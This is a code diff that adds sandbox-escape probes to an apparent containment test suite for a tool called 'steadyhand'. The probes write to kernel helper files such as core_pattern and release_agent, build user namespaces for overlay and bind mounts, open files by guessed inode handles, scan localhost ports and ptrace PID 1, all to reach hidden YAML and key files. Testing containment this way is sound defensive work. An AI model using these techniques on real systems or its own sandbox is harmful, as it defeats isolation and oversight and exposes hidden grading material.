@@ -13,6 +13,7 @@ import mmap
 import os
 import re
 import socket
+import struct
 import subprocess
 import sys
 import sysconfig
@@ -273,10 +274,167 @@ def poisoned():
     return f"opened {changed} for writing" if changed else "nothing"
 
 
+def kernel_helpers():
+    """Files by which root has the kernel start a program, outside of every room."""
+    names = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug",
+             "/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
+             "/sys/kernel/tracing/kprobe_events", "/sys/kernel/debug/tracing/kprobe_events",
+             *glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)]  # noqa: PTH207 - absolute patterns  # fmt: skip
+    opened = []
+    for name in names:
+        with contextlib.suppress(OSError):
+            os.close(os.open(name, os.O_WRONLY))
+            opened.append(name)
+    return f"opened {opened} for writing" if opened else "nothing"
+
+
+def held_folders():
+    """From folders that were open when the room was made, upwards."""
+    for number in range(3, 200):
+        for above in ("", "/..", "/../..", "/../../.."):
+            found = in_files(f"/proc/self/fd/{number}{above}/*.yaml", f"/proc/self/fd/{number}{above}{HERE}/*.yaml")
+            if found != "nothing":
+                return found
+    return "nothing"
+
+
+def asked():
+    """Ask the program itself, and its library."""
+    said = b""
+    for words in (["show", "last"], ["show", "last", "--json", "-"], ["list", "."], ["run", ".", "--dry-run"],
+                  ["validate", "."], ["runs"], ["export", "last"]):  # fmt: skip
+        with contextlib.suppress(OSError, subprocess.TimeoutExpired):
+            done = subprocess.run([sys.executable, "-m", "steadyhand", *words], capture_output=True, timeout=20,
+                                  cwd=HERE, check=False)  # fmt: skip
+            said += done.stdout + done.stderr
+    with contextlib.suppress(Exception):
+        import steadyhand
+
+        said += repr(steadyhand.load(str(HERE))).encode()
+    return found[0].decode() if (found := KEY.search(said)) else "nothing"
+
+
+def in_own_namespaces(work):
+    """What the work finds as root of namespaces that an ordinary user may make."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    reader, writer = os.pipe()
+    user, group = os.getuid(), os.getgid()
+    if (child := os.fork()) == 0:
+        found = "nothing"
+        with contextlib.suppress(BaseException):
+            if libc.unshare(0x10000000 | 0x20000) == 0:
+                for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
+                    Path("/proc/self", name).write_text(text)
+                found = work(libc)
+        os.write(writer, found.encode())
+        os._exit(0)
+    os.close(writer)
+    os.waitpid(child, 0)
+    with open(reader, "rb") as answer:  # noqa: PTH123 - a descriptor
+        return answer.read().decode() or "nothing"
+
+
+def overlaid():
+    """Through an overlay of the folder: it has what lies under a mask."""
+
+    def work(libc):
+        with tempfile.TemporaryDirectory() as top:
+            for name in ("upper", "work", "seen"):
+                Path(top, name).mkdir()
+            given = f"lowerdir={HERE},upperdir={top}/upper,workdir={top}/work"
+            options = [given, f"lowerdir={HERE}:{top}/upper", f"{given},userxattr"]
+            for option in options:
+                if libc.mount(b"overlay", os.fsencode(f"{top}/seen"), b"overlay", 0, os.fsencode(option)) == 0:
+                    found = in_files(f"{top}/seen/*.yaml", f"{top}/seen/.steadyhand/**/*")
+                    libc.umount2(os.fsencode(f"{top}/seen"), 2)
+                    if found != "nothing":
+                        return found
+        return "nothing"
+
+    direct = work(ctypes.CDLL(None, use_errno=True))
+    return in_own_namespaces(work) if direct == "nothing" else direct
+
+
+def bound():
+    """Through copies of mounts, without the masks on them."""
+
+    def work(libc):
+        with tempfile.TemporaryDirectory() as top:
+            for source in ("/", *map(str, HERE.parents), str(HERE)):
+                for flags in (4096, 4096 | 16384):
+                    if libc.mount(os.fsencode(source), os.fsencode(top), None, ctypes.c_ulong(flags), None) == 0:
+                        inside = HERE.relative_to(source)
+                        for name in HERE.glob("*.yaml"):
+                            libc.umount2(os.fsencode(f"{top}/{inside}/{name.name}"), 2)
+                        found = in_files(f"{top}/{inside}/*.yaml", f"{top}/{inside}/.steadyhand/**/*")
+                        libc.umount2(os.fsencode(top), 2)
+                        if found != "nothing":
+                            return found
+                tree = libc.syscall(428, -100, os.fsencode(source), 1)  # open_tree(OPEN_TREE_CLONE)
+                if tree >= 0:
+                    found = in_files(f"/proc/self/fd/{tree}/{HERE.relative_to(source)}/*.yaml")
+                    os.close(tree)
+                    if found != "nothing":
+                        return found
+        return "nothing"
+
+    direct = work(ctypes.CDLL(None, use_errno=True))
+    return in_own_namespaces(work) if direct == "nothing" else direct
+
+
+def by_handle():
+    """By the number of a file instead of its path, guessed from its neighbours'."""
+
+    def work(libc):
+        own, at = HERE.stat().st_ino, os.open(HERE, os.O_RDONLY)
+        for number in range(own - 300, own + 300):
+            handle = struct.pack("=IiII", 8, 1, number & 0xFFFFFFFF, 0)
+            opened = libc.open_by_handle_at(at, ctypes.create_string_buffer(handle), os.O_RDONLY)
+            if opened >= 0:
+                return f"opened file number {number}"
+        return "nothing"
+
+    direct = work(ctypes.CDLL(None, use_errno=True))
+    return in_own_namespaces(work) if direct == "nothing" else direct
+
+
+def listening():
+    """Ask everything that listens on this machine."""
+    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
+        fields = line.split()
+        if fields[3] == "0A":
+            port = int(fields[1].rpartition(":")[2], 16)
+            for path in ("/", "/openai/models", "/mocks/shop/refund", "/r.json", "/.steadyhand", "/v1/traces"):
+                with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=0.3) as peer:
+                    peer.settimeout(0.3)
+                    peer.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
+                    if found := KEY.search(peer.recv(65536)):
+                        return found[0].decode()
+    return "nothing"
+
+
+def first_process():
+    """Stop the first process of the room, and look where it may look."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    for pid in (1, os.getppid()):
+        if libc.ptrace(16, pid, 0, 0) == 0:
+            os.waitpid(pid, 0x40000000)
+            libc.ptrace(17, pid, 0, 0)
+            found = in_files(f"/proc/{pid}/root{HERE}/*.yaml", f"/proc/{pid}/cwd/*.yaml")
+            if found != "nothing":
+                return found
+        for kind in ("mnt", "user", "pid"):
+            with contextlib.suppress(OSError):
+                space = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
+                libc.setns(space, 0)
+                os.close(space)
+    return in_files(HERE / "*.yaml")
+
+
 ATTACKS = {each.__name__: each for each in (
     beside, linked, copied, committed, recorded, matrix_and_rubric, processes, memory, descriptors, unmounted,
     overwritten, disks, library, other_roots, mapped, borrowed, traced, objects, watched_workspaces, leftovers, sockets,
-    renamed, poisoned,
+    renamed, poisoned, kernel_helpers, held_folders, asked, overlaid, bound, by_handle, listening, first_process,
 )}  # fmt: skip
 
 
